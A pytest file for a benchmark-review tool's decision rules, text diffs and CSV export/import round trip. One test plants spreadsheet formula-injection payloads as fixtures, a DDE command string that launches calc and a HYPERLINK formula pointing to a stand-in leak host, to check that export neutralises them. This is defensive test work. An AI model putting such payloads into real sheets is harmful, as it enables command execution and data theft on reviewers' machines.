"""Decisions, the release rule, and the spreadsheet round trip (export CSV -> import)."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime, timedelta

import pytest
from test_review_support import CHILD_IDS, make_run

from benchfill.errors import BenchfillError, ConfigError, DataError
from benchfill.review import (
    ReleaseRule,
    ReviewBoard,
    export_queue,
    import_decisions,
    marked_diff,
    outcome,
    text_diff,
)
from benchfill.schema import ReviewDecision


def _d(reviewer, decision, minutes, **kw):
    return ReviewDecision(item_id="x", reviewer=reviewer, decision=decision,
                          created_at=datetime(2025, 1, 1, tzinfo=UTC) + timedelta(minutes=minutes), **kw)  # fmt: skip


def test_rule_counts_each_reviewers_latest_decision():
    ds = [_d("ann", "reject", 0, reason="wrong"), _d("ann", "accept", 5), _d("bob", "accept", 1)]
    assert outcome("x", ds, ReleaseRule(2, 0)).status == "accepted"  # ann changed her mind
    assert outcome("x", ds, ReleaseRule(3, 0)).status == "pending"
    ds.append(_d("cy", "reject", 9, reason="ambiguous"))
    assert outcome("x", ds, ReleaseRule(2, 0)).status == "rejected"
    assert outcome("x", ds, ReleaseRule(2, 1)).status == "accepted"
    edit = _d("bob", "edit", 10, edited_json=json.dumps({"problem": "new"}))
    res = outcome("x", ds + [edit], ReleaseRule(2, 1))
    # ann accepted the version before bob's edit: the edited one has one accept, bob's own
    assert res.status == "pending" and res.accepted_by == ["bob"] and res.edited_fields == {"problem": "new"}
    res = outcome("x", ds + [edit, _d("ann", "accept", 11)], ReleaseRule(2, 1))  # ann accepts the edit
    assert res.released and res.accepted_by == ["ann", "bob"] and res.edited_by == "bob"
    later = _d("dee", "edit", 12, edited_json=json.dumps({"problem": "newer"}))  # another edit: back to one
    res = outcome("x", ds + [edit, _d("ann", "accept", 11), later], ReleaseRule(2, 1))
    assert res.status == "pending" and res.accepted_by == ["dee"] and res.edited_fields == {"problem": "newer"}
    with pytest.raises(ConfigError, match="min_accepts"):
        ReleaseRule(0, 0)


def test_text_diff_marks_only_changed_words():
    old, new = "Find the value of x.", "Determine the value of y."
    pieces = text_diff(old, new)
    assert "".join(t for op, t in pieces if op != "+") == old
    assert "".join(t for op, t in pieces if op != "-") == new
    assert marked_diff(old, new) == "[-Find-]{+Determine+} the value of [-x.-]{+y.+}"


def test_decide_validates_and_stores_immediately(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    with ReviewBoard(run) as board:
        board.decide(CHILD_IDS[0], "ann", "accept")
        with pytest.raises(BenchfillError, match="'reason' is required"):
            board.decide(CHILD_IDS[1], "ann", "reject")
        with pytest.raises(BenchfillError, match="'reviewer' is empty"):
            board.decide(CHILD_IDS[1], " ", "accept")
        with pytest.raises(DataError, match="not in the review queue"):
            board.decide("nope", "ann", "accept")
        with pytest.raises(BenchfillError, match="changes neither"):
            board.decide(CHILD_IDS[2], "ann", "edit", text=board.entry(CHILD_IDS[2]).child["problem"])
        # an answer of another type was recorded, and a release shipped a list as a math item's answer
        for odd in (["x", {"y": 2}], {"y": 2}, True, float("nan")):
            with pytest.raises(ConfigError, match="^answer: expected a string or a finite number, got "):
                board.decide(CHILD_IDS[2], "ann", "edit", answer=odd)
        board.decide(CHILD_IDS[2], "ann", "edit", text="A clearer problem.", answer="42")
    with ReviewBoard(run) as again:  # a fresh connection sees them: they were committed
        rows = again.decisions()
        assert [(r.item_id, r.decision) for r in rows] == [(CHILD_IDS[0], "accept"), (CHILD_IDS[2], "edit")]
        edited = json.loads(rows[1].edited_json)
        assert edited["problem"] == "A clearer problem." and edited["answer"] == "42"
        assert again.entry(CHILD_IDS[2]).child["problem"] != "A clearer problem."  # the original is kept


def test_export_has_one_record_per_item_with_marked_changes(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    jsonl, csv_path = export_queue(run)
    recs = [json.loads(x) for x in jsonl.read_text().splitlines()]
    assert [r["item_id"] for r in recs] == list(CHILD_IDS)
    r0 = recs[0]
    assert "[-Find-]{+Determine+}" in r0["text_changes"]
    assert r0["ancestor_answer"] != r0["child_answer"]
    assert r0["confirmed"]["se"] == 0.3 and r0["review"]["status"] == "pending"
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
    assert len(rows) == 4 and rows[3]["flags"] == "near_duplicate"
    assert rows[0]["probe_results"].startswith("p0: 3/8 (ability -0.50)")
    assert not list((run / "review").glob("*.tmp"))


def test_import_round_trip_is_atomic_and_idempotent(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    _, csv_path = export_queue(run)
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
    rows[0].update(reviewer="ann", decision="accept")
    rows[1].update(reviewer="", decision="reject", reason="two answers fit")
    rows[2].update(reviewer="bob", decision="edit", edited_text="Edited text.", edited_answer="7")
    filled = tmp_path / "filled.csv"
    with filled.open("w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    assert import_decisions(run, filled, reviewer="cy") == 3
    assert import_decisions(run, filled, reviewer="cy") == 0  # same file again: nothing new
    with ReviewBoard(run) as board:
        got = {(d.item_id, d.reviewer, d.decision) for d in board.decisions()}
        assert got == {(CHILD_IDS[0], "ann", "accept"), (CHILD_IDS[1], "cy", "reject"), (CHILD_IDS[2], "bob", "edit")}
    # A bad row (the 4th; texts span lines, so the file line is later) stops the whole import.
    rows[3].update(reviewer="dee", decision="maybe")
    rows[0].update(reviewer="eve", decision="accept")
    with filled.open("w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    with pytest.raises(DataError, match=r"filled.csv line \d+ \(data row 4\): .*'decision' must be one of"):
        import_decisions(run, filled, reviewer="cy")
    with ReviewBoard(run) as board:
        assert len(board.decisions()) == 3


def _edit_sheet(path, **cells_by_row):
    """Fill cells of an exported sheet in place: cells_by_row maps a row ("r0") to its cells."""
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig")))
    for i, cells in cells_by_row.items():
        rows[int(i[1:])].update(cells)
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


def _sheet(run, tmp_path, name="filled.csv", **fills):
    """The exported sheet with rows filled in: fills maps a row ("r0") to the cells to set; a cell "@r2"
    takes that row's value of the column (a row duplicated by hand)."""
    _, csv_path = export_queue(run, tmp_path / f"export-{name}")
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
    exported = [dict(r) for r in rows]
    for i, cells in fills.items():
        rows[int(i[1:])].update({c: exported[int(v[2:])][c] if v.startswith("@r") else v for c, v in cells.items()})
    out = tmp_path / name
    with out.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return out, rows


def test_a_stale_sheet_cannot_undo_a_later_decision_made_on_the_page(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    sheet, _ = _sheet(run, tmp_path, r0={"reviewer": "ann", "decision": "accept"})
    assert import_decisions(run, sheet) == 1
    with ReviewBoard(run) as board:  # later, ann changes her mind on the page
        board.decide(CHILD_IDS[0], "ann", "reject", "the key is wrong", source="page")
    with pytest.raises(DataError, match=r"filled\.csv line \d+: ann decided 'reject' on .* \(on the review page\), "
                                        r"after this sheet was exported"):
        import_decisions(run, sheet)
    with ReviewBoard(run) as board:
        assert [d.decision for d in board.decisions()] == ["accept", "reject"]
        assert board.outcomes()[CHILD_IDS[0]].status == "rejected"
    # the same sheet, corrected by its reviewer and imported again, replaces what it said itself
    sheet2, _ = _sheet(run, tmp_path, "second.csv", r1={"reviewer": "bob", "decision": "accept"})
    assert import_decisions(run, sheet2) == 1
    _edit_sheet(sheet2, r1={"decision": "reject", "reason": "ambiguous after all"})
    assert import_decisions(run, sheet2) == 1
    with ReviewBoard(run) as board:
        assert board.outcomes()[CHILD_IDS[1]].status == "rejected"


def test_a_sheet_row_on_an_item_another_reviewer_edited_since_the_export_is_refused(tmp_path, shared_data):
    """The page refuses a decision on an item edited since it was opened; a sheet's row was filled in on the
    item as exported, and bob's accept counted as an accept of alice's later text, which he never saw."""
    run = make_run(tmp_path, shared_data)
    _, csv_path = export_queue(run, tmp_path / "export")
    with ReviewBoard(run) as board:
        board.decide(CHILD_IDS[0], "alice", "edit", text="Alice rewrote this item.", source="page")
    for cells in ({"reviewer": "bob", "decision": "accept"},
                  {"reviewer": "bob", "decision": "edit", "edited_text": "Bob fixed the old text."}):  # fmt: skip
        sheet = tmp_path / "bob.csv"
        sheet.write_bytes(csv_path.read_bytes())
        _edit_sheet(sheet, r0=cells, r1={"reviewer": "bob", "decision": "accept"})
        with pytest.raises(DataError, match=r"bob\.csv line 2: '[^']+' changed after this sheet was exported at .* "
                                            r"\(the edit by alice is now the one in force\)"):
            import_decisions(run, sheet)
    _edit_sheet(sheet, r0={"reviewer": "", "decision": "", "edited_text": ""})  # the row cleared: the rest goes in
    assert import_decisions(run, sheet) == 1
    with ReviewBoard(run) as board:
        assert board.outcomes()[CHILD_IDS[0]].edited_by == "alice"
        assert board.outcomes()[CHILD_IDS[0]].accepted_by == ["alice"]
    # a sheet's own edit, imported, then changed and imported again, is no change by someone else
    _, fresh = export_queue(run, tmp_path / "export2")
    _edit_sheet(fresh, r1={"reviewer": "cy", "decision": "edit", "edited_text": "Cy's text."})
    assert import_decisions(run, fresh) == 1
    _edit_sheet(fresh, r1={"edited_text": "Cy's better text."})
    assert import_decisions(run, fresh) == 1
    # an edit withdrawn after the export is a change too
    _, third = export_queue(run, tmp_path / "export3")
    with ReviewBoard(run) as board:
        board.decide(CHILD_IDS[0], "alice", "withdraw", source="page")
    _edit_sheet(third, r0={"reviewer": "dee", "decision": "reject", "reason": "too easy"})
    with pytest.raises(DataError, match=r"changed after this sheet was exported .* \(the edit it showed was withdrawn\)"):
        import_decisions(run, third)


def test_one_export_copied_to_two_reviewers_is_checked_per_reviewer(tmp_path, shared_data):
    # One sheet handed to alice and bob carries one export time: alice's import of her copy (an edit) was taken
    # for "this sheet's own earlier import", and bob's accept of the old text then counted for her edit.
    run = make_run(tmp_path, shared_data)
    _, csv_path = export_queue(run)  # the run's own review/review_queue.csv
    alice, bob = tmp_path / "alice.csv", tmp_path / "bob.csv"
    for copy in (alice, bob):
        copy.write_bytes(csv_path.read_bytes())
    _edit_sheet(alice, r0={"reviewer": "alice", "decision": "edit", "edited_text": "Alice rewrote it."})
    assert import_decisions(run, alice) == 1
    _edit_sheet(bob, r0={"reviewer": "bob", "decision": "accept"})
    with pytest.raises(DataError, match=r"bob\.csv line 2: .* \(the edit by alice is now the one in force\)"):
        import_decisions(run, bob)
    # the same row filled into the run's own sheet: import refuses it, so export does not hold it back (it had
    # sent the user from export to import and back)
    _edit_sheet(csv_path, r0={"reviewer": "bob", "decision": "accept"})
    with pytest.raises(DataError, match="changed after this sheet was exported"):
        import_decisions(run, csv_path)
    export_queue(run)


@pytest.mark.parametrize(
    ("fills", "pattern"),
    [
        ({"r0": {"reviewer": "ann", "decision": "accept"}, "r2": {"reviewer": "ann", "decision": "accept"},
          "r1": {"item_id": "@r0", "ancestor_id": "@r0", "child_text": "@r0", "child_answer": "@r0", "reviewer": "ann", "decision": "reject",
                 "reason": "no"}},
         r"a second decision by ann on .* \(the first is on line \d+\)"),
        ({"r0": {"reviewer": "ann", "decision": "accept", "edited_text": "Better text."}},
         r"edited_text filled, but the decision is 'accept'; write 'edit'"),
        ({"r0": {"item_id": CHILD_IDS[1], "reviewer": "ann", "decision": "accept"}},
         r"item '[^']+' has ancestor '[^']+' in the queue, the row says '[^']+' \(a re-sorted sheet\?\)"),
        ({"r0": {"child_text": "@r1", "reviewer": "ann", "decision": "accept"}},
         r"item '[^']+': the row's child_text is not the queue's text of that item .*write it in edited_text"),
        # a fix typed into the item's own answer cell was dropped, and the accept beside it shipped the item unfixed
        ({"r0": {"child_answer": "not the key 91", "reviewer": "ann", "decision": "accept"}},
         r"item '[^']+': the row's child_answer 'not the key 91' is not the queue's \('[^']*'\); to change it, write it "
         r"in edited_answer with decision 'edit', and restore or clear child_answer"),
        # the cells that show the edit in force are the export's, not an input (no edit is in force here)
        ({"r0": {"answer_as_edited": "91", "reviewer": "ann", "decision": "accept"}},
         r"item '[^']+': the row's answer_as_edited '91' is not the queue's \(blank, no edit being in force\); "
         r"to change it, write it in edited_answer"),
        ({"r0": {"text_as_edited": "A new text.", "reviewer": "ann", "decision": "reject", "reason": "x"}},
         r"item '[^']+': the row's text_as_edited 'A new text.' is not the queue's \(blank, no edit being in force\); "
         r"to change it, write it in edited_text"),
    ],
)
def test_sheet_rows_that_would_record_the_wrong_thing_are_refused(tmp_path, shared_data, fills, pattern):
    run = make_run(tmp_path, shared_data)
    sheet, _ = _sheet(run, tmp_path, **fills)
    with pytest.raises(DataError, match=r"filled\.csv line \d+ \(data row \d\): " + pattern):
        import_decisions(run, sheet)
    with ReviewBoard(run) as board:
        assert board.decisions() == []


def test_cells_a_spreadsheet_rewrites_in_form_only_still_import(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    _, csv_path = export_queue(run, tmp_path / "export")
    answer = next(csv.DictReader(csv_path.open(encoding="utf-8-sig")))["child_answer"]
    # the same number as a spreadsheet writes it back (1 -> 1.0), and the same text with its spacing changed
    same = f"{float(answer)}" if answer.lstrip("-").replace(".", "", 1).isdigit() else f"  {answer} "
    sheet, _ = _sheet(run, tmp_path, r0={"child_answer": same, "reviewer": "ann", "decision": "accept"})
    assert import_decisions(run, sheet) == 1


@pytest.mark.parametrize(("cell", "value"), [
    ("TRUE", True), ("FALSE", "false"), ("1.23457E+19", 12345678901234567890), ("3.14159265358979", 3.141592653589793),
    ("0.3", 0.30000000000000004), ("7", "007"), ("0.5", "0.50"), (" 42 ", 42),
])
def test_a_cell_a_spreadsheet_saved_in_its_own_form_is_the_same_cell(cell, value):
    from benchfill.review.export import _same_cell

    assert _same_cell(cell, value)


@pytest.mark.parametrize(("cell", "value"), [("78", 293), ("300", 293), ("true", "yes"), ("1/2", "0.5"), ("3.15", 3.14159)])
def test_a_cell_with_another_value_is_not_the_same_cell(cell, value):
    from benchfill.review.export import _same_cell

    assert not _same_cell(cell, value)


def test_a_sheet_that_showed_an_edit_imports_again_unchanged(tmp_path, shared_data):
    # the sheet shows the edit in force at its export; once its own edit is recorded, importing it again
    # compared those cells with the new edit and blamed the reviewer for a cell nobody touched
    run = make_run(tmp_path, shared_data)
    first, _ = _sheet(run, tmp_path, name="bob.csv", r0={"reviewer": "bob", "decision": "edit", "edited_answer": "301"})
    assert import_decisions(run, first) == 1
    second, rows = _sheet(run, tmp_path, name="alice.csv",
                          r0={"reviewer": "alice", "decision": "edit", "edited_answer": "302"})
    assert rows[0]["answer_as_edited"] == "301"  # the edit in force when exported
    assert import_decisions(run, second) == 1
    assert import_decisions(run, second) == 0  # the same file again: nothing new, nothing refused


def test_a_cut_row_an_excel_encoding_and_a_semicolon_sheet_are_one_line_each(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    sheet, rows = _sheet(run, tmp_path, r0={"reviewer": "ann", "decision": "accept"})
    text = sheet.read_text(encoding="utf-8")
    cut = tmp_path / "cut.csv"
    cut.write_text(text + "only,three,fields\n", encoding="utf-8")
    with pytest.raises(DataError, match=r"cut\.csv line \d+ \(data row 5\): 3 fields, the header has \d+"):
        import_decisions(run, cut)
    latin = tmp_path / "latin.csv"
    latin.write_bytes(text.replace("ann", "José").encode("cp1252"))
    with pytest.raises(DataError, match=r"latin\.csv: not UTF-8 text \(byte \d+\); save it as 'CSV UTF-8'"):
        import_decisions(run, latin)
    semi = tmp_path / "semi.csv"
    semi.write_text("item_id;reviewer;decision\n" + f"{CHILD_IDS[0]};ann;accept\n", encoding="utf-8")
    with pytest.raises(DataError, match=r"separated by ';'"):
        import_decisions(run, semi)
    with ReviewBoard(run) as board:
        assert board.decisions() == []
    # a sheet without a reviewer column, and the reviewer named on the command line
    bare = tmp_path / "bare.csv"
    bare.write_text(f"item_id,decision\n{CHILD_IDS[0]},accept\n", encoding="utf-8")
    assert import_decisions(run, bare, reviewer="cy") == 1


def test_export_keeps_a_filled_sheet_until_it_is_imported(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    _, csv_path = export_queue(run)
    _edit_sheet(csv_path, r0={"reviewer": "ann", "decision": "accept"})
    with pytest.raises(DataError, match=r"review_queue\.csv: holds 1 decision\(s\) not imported yet"):
        export_queue(run)
    assert "ann" in csv_path.read_text(encoding="utf-8")
    assert import_decisions(run, csv_path) == 1
    export_queue(run)  # imported: a fresh sheet may replace it
    assert list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))[0]["status"] == "accepted"


def test_export_takes_a_sheet_imported_under_a_reviewer_or_overridden_since(tmp_path, shared_data):
    # The README's way: reviewer cells left empty, the name given on import. Export once refused such a
    # sheet for good, and a row that a later decision overrides sent export and import to each other.
    run = make_run(tmp_path, shared_data)
    _, csv_path = export_queue(run)
    _edit_sheet(csv_path, r0={"decision": "accept"})
    with pytest.raises(DataError, match=r"holds 1 decision\(s\) not imported yet"):
        export_queue(run)
    assert import_decisions(run, csv_path, reviewer="alice") == 1
    export_queue(run)  # imported under --reviewer: a fresh sheet may replace it
    _edit_sheet(csv_path, r1={"reviewer": "carol", "decision": "accept"})
    later, _ = _sheet(run, tmp_path, r1={"reviewer": "carol", "decision": "reject", "reason": "two answers"})
    assert import_decisions(run, later) == 1
    with pytest.raises(DataError, match=r"carol decided 'reject'.*after this sheet was exported"):
        import_decisions(run, csv_path)  # the first sheet's accept would undo the later reject
    export_queue(run)  # ... and cannot be imported any more: it does not hold the export back
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
    assert rows[1]["status"] == "rejected" and rows[1]["decision"] == ""


def test_export_still_keeps_a_sheet_whose_decisions_an_import_could_record(tmp_path, shared_data):
    # What settles a row must be what import would do with it: a blank reviewer cell is no one's until the
    # file is imported under a name, and a decision changed back to an earlier one is new again.
    run = make_run(tmp_path, shared_data)
    _, csv_path = export_queue(run)
    _edit_sheet(csv_path, r0={"decision": "reject", "reason": "wrong key"})  # reviewer cell left empty
    with ReviewBoard(run) as board:
        board.decide(CHILD_IDS[0], "bob", "accept", source="page")  # someone else, after the export
    with pytest.raises(DataError, match=r"holds 1 decision\(s\) not imported yet"):
        export_queue(run)
    assert import_decisions(run, csv_path, reviewer="ann") == 1
    _edit_sheet(csv_path, r0={"decision": "accept", "reason": ""})  # ann changes her mind in the sheet
    assert import_decisions(run, csv_path, reviewer="ann") == 1
    _edit_sheet(csv_path, r0={"decision": "reject", "reason": "wrong key"})  # and back, byte for byte as first
    with pytest.raises(DataError, match=r"holds 1 decision\(s\) not imported yet"):
        export_queue(run)
    assert import_decisions(run, csv_path, reviewer="ann") == 1
    export_queue(run)
    with ReviewBoard(run) as board:
        assert board.outcomes()[CHILD_IDS[0]].rejected_by == ["ann"]


def test_a_fresh_sheet_shows_the_standing_edit(tmp_path, shared_data):
    # An imported edit changed what would be released, yet a re-exported sheet showed neither who edited
    # the item nor to what.
    run = make_run(tmp_path, shared_data)
    _, csv_path = export_queue(run)
    _edit_sheet(csv_path, r0={"reviewer": "bob", "decision": "edit", "edited_answer": "99"})
    assert import_decisions(run, csv_path) == 1
    export_queue(run)
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
    assert rows[0]["edited_by"] == "bob" and json.loads(rows[0]["edited_to"]) == {"answer": "99"}
    assert rows[1]["edited_by"] == "" and rows[1]["edited_to"] == ""
    # the item as it stands, beside the rewriter's answer (a second reviewer read the answer the edit fixed)
    assert (rows[0]["answer_as_edited"], rows[0]["text_as_edited"]) == ("99", "")
    assert rows[0]["child_answer"] != "99" and rows[1]["answer_as_edited"] == ""
    assert import_decisions(run, csv_path) == 0  # the sheet still reads back: its rows are still their items


def test_a_reviewer_can_withdraw_a_mistaken_decision(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    with ReviewBoard(run) as board:
        board.decide(CHILD_IDS[0], "alcie", "reject", "typo in my own name")  # blocks under the default rule
        assert board.outcomes()[CHILD_IDS[0]].status == "rejected"
        board.decide(CHILD_IDS[0], "alcie", "withdraw")
        board.decide(CHILD_IDS[0], "alice", "accept")
        o = board.outcomes()[CHILD_IDS[0]]
        assert o.status == "accepted" and o.accepted_by == ["alice"] and o.rejected_by == []
        board.decide(CHILD_IDS[0], "alice", "withdraw")  # an accept taken back: pending again
        assert board.outcomes()[CHILD_IDS[0]].status == "pending"
        with pytest.raises(BenchfillError, match="bob has no decision on it to withdraw"):
            board.decide(CHILD_IDS[0], "bob", "withdraw")
        with pytest.raises(BenchfillError, match="alice has no decision on it to withdraw"):
            board.decide(CHILD_IDS[0], "alice", "withdraw")  # twice


def test_text_diff_of_long_texts_is_bounded_and_still_marks_only_changed_words(monkeypatch):
    import difflib
    import random

    from benchfill.review import queue

    rnd = random.Random(0)
    vocab = ["".join(rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(7)) for _ in range(4000)]
    words = [rnd.choice(vocab) + rnd.choice([",", ".", "", "", ""]) for _ in range(40_000)]  # ~300k characters
    old = " ".join(words) + "\n\n" + " ".join(words[:50])
    changed = sorted(rnd.sample(range(40_000), 25))
    for i in changed:
        words[i] = "CHANGED"
    new = " ".join(words) + "\n\n" + " ".join(words[:50]) + " An extra closing sentence."
    sizes = []

    class Counted(difflib.SequenceMatcher):
        def __init__(self, isjunk=None, a="", b="", autojunk=True):
            sizes.append(len(a) + len(b))
            super().__init__(isjunk, a, b, autojunk)

    monkeypatch.setattr(queue.difflib, "SequenceMatcher", Counted)
    pieces = text_diff(old, new)
    assert max(sizes) <= queue.EXACT_TOKENS  # never quadratic in the whole text (minutes at 200k characters)
    assert "".join(t for op, t in pieces if op != "+") == old
    assert "".join(t for op, t in pieces if op != "-") == new
    added = [t for op, t in pieces if op == "+"]
    assert added.count("CHANGED") == len(changed) and added[-1] == " An extra closing sentence."
    assert len(added) == len(changed) + 1
    assert all(a[0] != b[0] for a, b in zip(pieces, pieces[1:], strict=False))  # no two pieces of one kind in a row
    assert marked_diff("Find the value of x.", "Determine the value of y.") == (
        "[-Find-]{+Determine+} the value of [-x.-]{+y.+}")


def test_a_sheet_runs_no_formula_and_still_round_trips(tmp_path, shared_data):
    # An LLM's text or a benchmark's id that starts as a formula (=, +, -, @) would run when the reviewer
    # opens the sheet: written with a leading apostrophe, read back as the queue holds it; an id that ends
    # in a tab still matches its queue entry.
    run = make_run(tmp_path, shared_data)
    queue = run / "review_queue.jsonl"
    recs = [json.loads(x) for x in queue.read_text().splitlines()]
    recs[0]["ancestor_id"] = "+cmd|' /C calc'!A0"
    recs[1]["child"]["problem"] = "-2+3 " + recs[1]["child"]["problem"]
    recs[2]["ancestor_id"] = '=HYPERLINK("http://evil.example/?leak","click")\t'
    recs[3]["child"]["problem"] = "'-'.join(xs) " + recs[3]["child"]["problem"]  # an apostrophe of its own
    queue.write_text("".join(json.dumps(r) + "\n" for r in recs))
    _, csv_path = export_queue(run)
    assert csv_path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8, not its code page
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
    def number(v):
        try:
            return float(v) == float(v)
        except ValueError:
            return False

    risky = [(r["item_id"], k, v) for r in rows for k, v in r.items() if v and v[0] in "=+-@\t\r" and not number(v)]
    assert risky == []  # a negative difficulty stays a number
    assert rows[0]["ancestor_id"] == "'+cmd|' /C calc'!A0" and rows[1]["child_text"].startswith("'-2+3 ")
    assert rows[3]["child_text"].startswith("''-'.join(xs) ")
    for r in rows[:4]:
        r.update(reviewer="ann", decision="accept")
    with csv_path.open("w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    assert import_decisions(run, csv_path) == 4  # the fourth had been refused as not the queue's text


def test_an_edit_builds_on_the_edit_in_force_and_a_stale_version_is_refused(tmp_path, shared_data):
    # bob changed only the answer of an item carol had reworded: the edit was built from the proposal, and
    # carol's wording was dropped from what a release would ship
    from benchfill.review.board import Changed

    run = make_run(tmp_path, shared_data)
    item = CHILD_IDS[0]
    with ReviewBoard(run) as board:
        proposal = board.version(item)
        board.decide(item, "carol", "edit", text="Carol's wording.")
        with pytest.raises(Changed, match=r"changed since you opened it \(the edit by carol is now the one in force\)"):
            board.decide(item, "bob", "accept", seen=proposal)
        board.decide(item, "bob", "edit", answer="61", seen=board.version(item))
        shipped = board.outcomes()[item].edited_fields
        old = board.entry(item).child["answer"]  # (the answer keeps its JSON type)
        assert shipped["problem"] == "Carol's wording." and str(shipped["answer"]) == "61"
        assert type(shipped["answer"]) is type(old)
        assert board.outcomes()[item].edited_by == "bob"
        board.decide(item, "bob", "withdraw", seen=proposal)  # a withdraw takes back one's own: never stale
        assert board.standing(item)["problem"] == "Carol's wording."


def _held_between_check_and_write(board: ReviewBoard):
    """Hold ``board``'s decisions half a second after they read the item (decide reads its standing so, once,
    for the check and the edit's base), as a busy machine may; the event is set once one has read it."""
    import threading
    import time

    read = threading.Event()
    real = board.outcome_of

    def slow_outcome(*args, **kw):
        got = real(*args, **kw)
        read.set()
        time.sleep(0.5)  # between the check and the write
        return got

    board.outcome_of = slow_outcome
    return read


def test_two_boards_on_one_run_cannot_both_edit_the_same_version(tmp_path, shared_data):
    # Two page servers on one run (two terminals, or the page and a script): each read the item unchanged,
    # then each wrote its edit on it, both accepted. Board A is held between its read and its write here,
    # as a busy machine may hold it; B decides in that window.
    import threading

    from benchfill.review.board import Changed

    run = make_run(tmp_path, shared_data)
    item = CHILD_IDS[0]
    a, b = ReviewBoard(run, writable=True), ReviewBoard(run, writable=True)
    seen = a.version(item)
    read = _held_between_check_and_write(a)
    results: dict[str, object] = {}

    def decide_a():
        try:
            results["alice"] = a.decide(item, "alice", "edit", text="Alice's text.", seen=seen)
        except Changed as exc:
            results["alice"] = exc

    t = threading.Thread(target=decide_a)
    t.start()
    assert read.wait(10)
    try:
        results["bob"] = b.decide(item, "bob", "edit", text="Bob's text.", seen=seen)
    except Changed as exc:
        results["bob"] = exc
    t.join(10)
    a.close()
    with b:
        assert not isinstance(results["alice"], Changed)  # A held the run first
        assert isinstance(results["bob"], Changed) and "the edit by alice is now the one in force" in str(results["bob"])
        assert [d.reviewer for d in b.decisions(item)] == ["alice"]


def test_a_lone_surrogate_in_a_decision_is_refused_in_one_line(tmp_path, shared_data):
    # the page's JSON may carry "\ud800": it decoded to a string the store could not write (a 500 on the page)
    run = make_run(tmp_path, shared_data)
    with ReviewBoard(run) as board:
        with pytest.raises(ConfigError, match=r"^reason: holds an unpaired surrogate \('\\ud800'\), not text$"):
            board.decide(CHILD_IDS[0], "ann", "reject", "x \ud800")
        with pytest.raises(ConfigError, match=r"^text: holds an unpaired surrogate"):
            board.decide(CHILD_IDS[0], "ann", "edit", text="Caf\udce9")
        assert board.decisions() == []
        board.decide(CHILD_IDS[0], "ann", "reject", "wrong key \U0001F600")  # a character outside the BMP is text


def test_trailing_spaces_or_another_normal_form_are_no_edit(tmp_path, shared_data):
    # an editor's trailing space, or the same letters decomposed (NFD), shipped as an edit: the item left the
    # release's after-figures as "edited, unplaced" for a change no reader can see
    import unicodedata

    from benchfill.review.board import _same_text

    run = make_run(tmp_path, shared_data)
    with ReviewBoard(run) as board:
        entry = board.entry(CHILD_IDS[0])
        text = entry.child[entry.text_field]
        for same in (text + "  \n", text.replace("\n", "   \n")):
            with pytest.raises(BenchfillError, match=r"changes neither text, answer nor options"):
                board.decide(CHILD_IDS[0], "bob", "edit", text=same)
        other = board.entry(CHILD_IDS[1])
        with pytest.raises(BenchfillError, match=r"changes neither"):
            board.decide(CHILD_IDS[1], "bob", "edit", answer=str(other.child[other.answer_field]) + " ")
        assert board.decisions() == []
        board.decide(CHILD_IDS[0], "bob", "edit", text=" " + text)  # a leading space is a change
    cafe = "Caf\u00e9 au lait"
    assert _same_text(unicodedata.normalize("NFD", cafe) + "\n", cafe) and not _same_text("Cafe au lait", cafe)


def test_export_keeps_a_review_under_way_and_a_csv_that_is_no_sheet(tmp_path, shared_data):
    # a reason and an edit typed with the decision cell still empty, and a user's own CSV at the sheet's
    # place, were replaced by the next export without a word
    run = make_run(tmp_path, shared_data)
    _, csv_path = export_queue(run)
    _edit_sheet(csv_path, r0={"reviewer": "bob", "reason": "carefully checked the second step",
                               "edited_text": "Find y."})
    before = csv_path.read_bytes()
    with pytest.raises(DataError, match=r"1 row\(s\) hold a reason or an edit with no decision yet"):
        export_queue(run)
    assert csv_path.read_bytes() == before
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "review_queue.csv").write_text("name,score\nann,3\n")
    with pytest.raises(DataError, match=r"not a review sheet \(no item_id and decision columns\)"):
        export_queue(run, out_dir=mine)
    assert (mine / "review_queue.csv").read_text() == "name,score\nann,3\n"


def test_an_edited_whole_number_answer_is_taken_however_long(tmp_path, shared_data):
    # math.isfinite of a 400-digit int raised a bare OverflowError
    run = make_run(tmp_path, shared_data)
    with ReviewBoard(run) as board:
        board.decide(CHILD_IDS[1], "ann", "edit", answer=10**400)
        assert board.outcomes()[CHILD_IDS[1]].edited_fields["answer"] == 10**400


def test_an_edit_longer_than_csvs_default_field_limit_reads_back(tmp_path, shared_data):
    # csv refuses a field over 131,072 characters unless told: a long code solution typed into the sheet
    # was "malformed CSV", so a sheet benchfill exported could not be imported back
    run = make_run(tmp_path, shared_data)
    _, csv_path = export_queue(run)
    long_text = "Let x be the number of ways. " * 6000  # 174,000 characters
    _edit_sheet(csv_path, r0={"reviewer": "bob", "decision": "edit", "edited_text": long_text})
    assert import_decisions(run, csv_path) == 1
